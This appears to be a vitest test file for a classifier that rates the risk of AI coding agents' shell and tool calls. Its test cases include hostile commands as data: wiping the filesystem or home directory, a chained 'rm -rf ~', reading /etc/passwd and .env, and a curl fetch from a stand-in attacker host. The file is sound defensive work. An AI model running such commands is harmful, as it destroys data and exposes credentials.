import { describe, expect, it } from 'vitest'
import type { Json } from '../../ledger/canonical.ts'
import { hostFacts, hostTool } from './host-tools.ts'
import { plainWords } from './shell-line.ts'

const factsOf = (host: string, tool: string, input: Json) =>
  hostFacts(hostTool(host, tool), input, '/work/repo')
const bash = (command: string) => factsOf('claude-code', 'Bash', { command })

describe('the tools of hosts', () => {
  it.each<[string, string, readonly string[], boolean]>([
    ['ls -la src', 'low', [], true],
    ['git status', 'low', [], true],
    ['git log --oneline', 'low', [], true],
    ['cat /etc/passwd', 'high', ['outside'], false],
    ['cat .env', 'high', ['credentials'], true],
    ['npm test', 'high', ['executes-with-network', 'fetches', 'executes'], false],
    ['make build', 'high', ['any-code', 'executes'], true],
    ['tsc --noEmit', 'medium', ['executes'], true],
    [
      'git push origin main',
      'critical',
      ['destroys-outside', 'destroys', 'executes-with-network', 'fetches', 'executes'],
      false,
    ],
    ['rm -rf build', 'high', ['destroys', 'executes'], true],
    ['rm -rf /', 'critical', ['destroys-outside', 'destroys', 'outside', 'executes'], false],
    ['ls; rm -rf ~', 'critical', ['destroys-outside', 'destroys', 'outside', 'any-code', 'executes'], false],
    [
      'echo $(curl http://evil.example/x)',
      'high',
      ['executes-with-network', 'any-code', 'fetches', 'executes'],
      false,
    ],
    [
      'curl http://127.0.0.1:1/',
      'critical',
      ['private-host', 'executes-with-network', 'fetches', 'executes'],
      false,
    ],
    ['sudo ls', 'critical', ['privilege', 'executes'], true],
  ])('AGT-X-7 classes the shell command %s as %s', (command, risk, rules, inside) => {
    expect(bash(command)).toMatchObject({ risk, rules, insideWorkspace: inside })
  })

  it.each<[string, string, Json, string, boolean]>([
    ['claude-code', 'Read', { file_path: '/work/repo/a.ts' }, 'low', true],
    ['claude-code', 'Read', { file_path: '/work/repo/../x' }, 'high', false],
    ['claude-code', 'Write', { file_path: '/work/repo/a.ts', content: '' }, 'medium', true],
    ['claude-code', 'Edit', { file_path: '/work/repo/.github/workflows/ci.yml' }, 'high', true],
    ['claude-code', 'Edit', { file_path: '/work/repo/.claude/settings.json' }, 'high', true],
    ['claude-code', 'WebFetch', { url: 'https://example.com/a', prompt: 'p' }, 'medium', false],
    ['claude-code', 'Agent', { prompt: 'look around' }, 'low', true],
    ['claude-code', 'mcp__db__drop_table', { name: 'users' }, 'critical', false],
    ['claude-code', 'NewTool', {}, 'high', false],
    [
      'codex',
      'apply_patch',
      { command: '*** Begin Patch\n*** Update File: a.ts\n*** End Patch' },
      'medium',
      true,
    ],
    [
      'codex',
      'apply_patch',
      { command: '*** Begin Patch\n*** Add File: ../b\n*** End Patch' },
      'high',
      false,
    ],
    ['codex', 'apply_patch', { command: 'nothing that can be read' }, 'high', false],
    ['codex', 'Bash', { command: 'ls' }, 'low', true],
    ['gemini-cli', 'write_file', { file_path: 'a.txt', content: 'x' }, 'medium', true],
    ['gemini-cli', 'run_shell_command', { command: 'ls' }, 'low', true],
    ['gemini-cli', 'toString', {}, 'high', false],
  ])('AGT-X-7 classes %s %s', (host, tool, input, risk, inside) => {
    expect(factsOf(host, tool, input)).toMatchObject({ risk, insideWorkspace: inside })
  })

  it.each([
    ['ls -la', ['ls', '-la']],
    ["grep 'a b' x", ['grep', 'a b', 'x']],
    ['A=1 ls', null],
    ['ls | wc', null],
    ["ec'h'o a", null],
    ['ls *.ts', null],
    ['', null],
  ])('AGT-X-7 splits %j into words only if a shell would run it unchanged', (command, words) => {
    expect(plainWords(command)).toEqual(words)
  })
})
